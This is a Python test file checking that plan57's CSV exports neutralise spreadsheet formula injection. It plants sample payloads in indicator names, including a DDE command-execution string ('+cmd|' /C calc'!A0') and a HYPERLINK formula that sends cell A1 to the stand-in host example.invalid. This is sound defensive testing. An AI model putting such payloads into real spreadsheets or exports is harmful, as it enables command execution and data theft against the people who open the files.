"""CSV that plan57 writes cannot run as a formula in a spreadsheet, whoever wrote the text.

The helper itself, then every CSV writer end to end (`template`, `score --format csv`) on a
catalogue whose indicator names are formulas.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pytest

from clirun import invoke
from conftest import PROJECT
from plan57.spreadsheet import FORMULA_START, CsvWriter, neutralise

HOSTILE = {
    # indicator: the English name it gets (YAML double-quoted text)
    "CT30": '=HYPERLINK(\\"http://example.invalid/?\\"&A1,\\"click\\")',
    "CT34": "+cmd|' /C calc'!A0",
    "CT05": "@SUM(A1:A9)",
    "CT08": "-2+3",
    "CT09": "\\t=1+1",
    "CT40": "\\r=1+1",
}
PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?(?:e[+-]?[0-9]+)?")


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("", ""),
        ("Sở Tài chính", "Sở Tài chính"),
        ("≥ 1,0%", "≥ 1,0%"),
        ("a=b", "a=b"),
        ("'=1", "'=1"),
    ],
)
def test_neutralise(cell: str, safe: str) -> None:
    assert neutralise(cell) == safe


@pytest.mark.parametrize("line_end", ["\n", "\r\n"])
def test_no_cell_breaks_out_of_its_row(line_end: str) -> None:
    rows = [["id", "name"], ["CT01", "a\rb"], ["CT02", "'\r=1+1"], ["CT03", 'plain, "quoted"']]
    buffer = io.StringIO()
    writer = CsvWriter(buffer, line_end=line_end)
    for row in rows:
        writer.writerow(row)
    assert list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == rows
    # Rows without a CR come out exactly as the standard writer writes them.
    standard = io.StringIO()
    csv.writer(standard, lineterminator=line_end).writerows([rows[0], rows[3]])
    assert buffer.getvalue().startswith(standard.getvalue().split(line_end)[0] + line_end)
    assert buffer.getvalue().endswith(standard.getvalue().split(line_end)[1] + line_end)


def assert_inert(data: bytes) -> list[list[str]]:
    """No cell of the CSV starts a formula, except plain numbers plan57 formatted itself, and
    no cell broke out of its row."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        assert len(row) == len(rows[0]), row
        for cell in row:
            assert not cell.startswith(FORMULA_START) or PLAIN_NUMBER.fullmatch(cell), cell
    return rows


@pytest.fixture
def hostile_repo(tmp_path: Path) -> Path:
    """The bundled data, with a catalogue whose English names are formulas."""
    root = tmp_path / "repo"
    shutil.copytree(PROJECT / "data", root / "data")
    catalogue = root / "data" / "targets.yaml"
    text = catalogue.read_text("utf-8")
    for indicator, name in HOSTILE.items():
        at = text.index(f"id: {indicator}\n")
        start = text.index("name_en: ", at)
        end = text.index("\n", start)
        text = text[:start] + f'name_en: "{name}"' + text[end:]
    catalogue.write_text(text, encoding="utf-8")
    return root


def _names(rows: list[list[str]], column: str) -> set[str]:
    at = rows[0].index(column)
    return {row[at] for row in rows[1:]}


def test_the_template_is_inert(hostile_repo: Path) -> None:
    result = invoke(
        hostile_repo, "template", "--reporter", "so-tc", "--period", "2025Q4", "--lang", "en"
    )
    assert result.exit_code == 0
    rows = assert_inert(result.stdout_bytes)
    names = _names(rows, "name")
    # The text is all there, behind the apostrophe that makes it text.
    assert "'+cmd|' /C calc'!A0" in names
    assert '\'=HYPERLINK("http://example.invalid/?"&A1,"click")' in names


def test_the_score_csv_is_inert(hostile_repo: Path) -> None:
    result = invoke(
        hostile_repo,
        "score",
        "--period",
        "2025Q4",
        "--as-of",
        "2026-03-01",
        "--format",
        "csv",
        "--lang",
        "en",
    )
    assert result.exit_code == 0
    rows = assert_inert(result.stdout_bytes)
    names = _names(rows, "name")
    assert {"'@SUM(A1:A9)", "'-2+3", "'\t=1+1", "'\r=1+1", "'+cmd|' /C calc'!A0"} <= names
